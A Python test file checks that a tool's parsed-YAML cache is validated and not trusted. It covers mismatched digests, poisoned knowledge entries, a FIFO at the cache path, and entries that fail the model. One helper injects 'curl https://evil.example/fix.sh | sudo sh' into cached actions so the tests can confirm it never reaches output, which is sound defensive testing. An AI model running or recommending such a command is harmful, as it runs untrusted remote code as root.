"""The parsed-YAML cache is checked, never trusted: entries must match the source text and the model, and the
cache file is read only when it is a regular file (advisor/yamlcache.py, rulebook._load_model)."""

from __future__ import annotations

import json
import os
import threading

import msgspec
import pytest
from typer.testing import CliRunner

from advisor import rulebook, yamlcache
from advisor.cli import app
from advisor.rulebook import load_rulebook

CACHE_FILE = "parsed-yaml.json"


@pytest.fixture
def cache(monkeypatch, tmp_path):
    directory = tmp_path / "cache"
    monkeypatch.setenv("ADVISOR_CACHE_DIR", str(directory))
    load_rulebook(installed=False)
    assert (directory / CACHE_FILE).is_file()
    return directory / CACHE_FILE


def _summary(book) -> dict:
    return {"rules": {i: r.spec.model_dump() for i, r in book.rules.items()},
            "knowledge": {i: k.model_dump() for i, k in book.knowledge.items()}}


def _rewrite(path, change) -> None:
    stored = json.loads(path.read_bytes())
    for key, entry in stored["entries"].items():
        stored["entries"][key] = change(key, entry)
    path.write_bytes(json.dumps(stored).encode())


def _with_digest(key: str, document) -> list:
    return [yamlcache._digest(key, document), document]


def test_valid_json_with_wrong_documents_does_not_brick_the_rule_book(cache, monkeypatch):
    expected = _summary(load_rulebook(installed=False))
    _rewrite(cache, lambda key, entry: [entry[0], "not a rule"])  # digests no longer match
    assert _summary(load_rulebook(installed=False)) == expected
    _rewrite(cache, lambda key, entry: _with_digest(key, [1, 2]))  # digests match, but no document is a mapping
    assert _summary(load_rulebook(installed=False)) == expected
    _rewrite(cache, lambda key, entry: _with_digest(key, {"id": "x"}))  # a mapping, but not a rule or knowledge entry
    assert _summary(load_rulebook(installed=False)) == expected


def _poison(key: str, entry: list, digest: bool) -> list:
    document = entry[1]
    if isinstance(document.get("actions"), list):
        document = {**document, "actions": [{"en": "Run curl https://evil.example/fix.sh | sudo sh", "zh": "运行 curl"}]}
    return _with_digest(key, document) if digest else [entry[0], document]


@pytest.mark.parametrize("digest", [False, True], ids=["edited", "edited-with-a-new-digest"])
def test_edited_cached_knowledge_does_not_change_prescriptions(cache, digest):
    expected = _summary(load_rulebook(installed=False))
    _rewrite(cache, lambda key, entry: _poison(key, entry, digest))
    book = load_rulebook(installed=False)
    assert _summary(book) == expected
    assert not any("curl" in action.en for entry in book.knowledge.values() for action in entry.actions)
    stored = msgspec.json.decode((cache).read_bytes())  # and the cache was rewritten from the YAML
    assert "curl" not in json.dumps(stored)


def test_edited_cache_does_not_reach_a_report(cache, tmp_path):
    from conftest import SAMPLE_SINGLE

    env = {"ADVISOR_CACHE_DIR": str(cache.parent), "LANG": "C.UTF-8"}
    before = CliRunner().invoke(app, ["diagnose", str(SAMPLE_SINGLE), "-f", "md"], env=env)
    _rewrite(cache, lambda key, entry: _poison(key, entry, True))
    after = CliRunner().invoke(app, ["diagnose", str(SAMPLE_SINGLE), "-f", "md"], env=env)
    assert after.exit_code == before.exit_code == 0, after.stderr
    assert "curl" not in after.stdout


def test_a_fifo_at_the_cache_path_is_not_waited_on(monkeypatch, tmp_path):
    directory = tmp_path / "cache"
    directory.mkdir()
    os.mkfifo(directory / CACHE_FILE)
    monkeypatch.setenv("ADVISOR_CACHE_DIR", str(directory))
    done = []
    worker = threading.Thread(target=lambda: done.append(load_rulebook(installed=False)), daemon=True)
    worker.start()
    worker.join(120)
    if worker.is_alive():  # release the blocked open, so the test run can end
        with open(directory / CACHE_FILE, "wb"):
            pass
        pytest.fail("loading the rule book waited on a FIFO at the cache path")
    assert done and done[0].rules
    assert (directory / CACHE_FILE).is_file()  # replaced by a real cache file


def test_a_cached_document_that_fails_the_model_is_parsed_again(monkeypatch, tmp_path):
    pack = tmp_path / "pack"
    (pack / "knowledge").mkdir(parents=True)
    name = "fused.rms_norm.yaml"
    text = (rulebook.data_dir("knowledge") / "fused-operator" / name).read_text(encoding="utf-8")
    (pack / "knowledge" / name).write_text(text, encoding="utf-8")
    parsed = yamlcache.ParsedYaml(tmp_path / "cache")
    key = yamlcache._key(text)
    # an entry whose words all come from the text and whose digest matches, but which is not a knowledge entry
    parsed.stored = {key: _with_digest(key, {"id": "fused"})}
    problems: list[str] = []
    entry = rulebook._load_model(pack / "knowledge" / name, rulebook.KnowledgeEntry, problems, parsed)
    assert problems == [] and entry is not None and entry.id == "fused.rms_norm"
